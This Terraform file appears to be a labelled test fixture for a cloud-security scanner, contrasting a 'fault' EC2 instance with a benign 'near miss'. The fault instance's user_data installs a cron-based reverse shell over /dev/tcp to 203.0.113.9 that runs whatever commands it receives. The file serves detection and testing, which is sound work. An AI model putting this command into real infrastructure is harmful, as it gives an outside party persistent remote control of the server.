# An instance opens a shell to a foreign address without downloading anything.
# Source: https://attack.mitre.org/techniques/T1059/004/
# Fault at: aws_instance.udrev_fault
# Near miss at: aws_instance.udrev_near

resource "aws_kms_key" "udrev_key" {
  description         = "Key for udrev_key"
  enable_key_rotation = true
}

resource "aws_vpc" "udrev_vpc" {
  cidr_block = "10.20.0.0/16"
}

resource "aws_subnet" "udrev_subnet" {
  vpc_id     = aws_vpc.udrev_vpc.id
  cidr_block = "10.20.1.0/24"
}

data "aws_ami" "udrev_ami" {
  owners     = ["self"]
  name_regex = "^shop-prod-base-"
  depends_on = [aws_kms_key.udrev_key]
}

resource "aws_instance" "udrev_fault" {
  ami                  = data.aws_ami.udrev_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udrev_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udrev_key.arn
  }
  user_data = "#!/bin/bash\n( crontab -l; echo '*/5 * * * * exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done' ) | crontab -\n"
}

resource "aws_instance" "udrev_near" {
  ami                  = data.aws_ami.udrev_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udrev_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udrev_key.arn
  }
  user_data = "#!/bin/bash\n( crontab -l; echo '*/5 * * * * /opt/shop/bin/cleanup >/dev/null 2>&1' ) | crontab -\n"
}
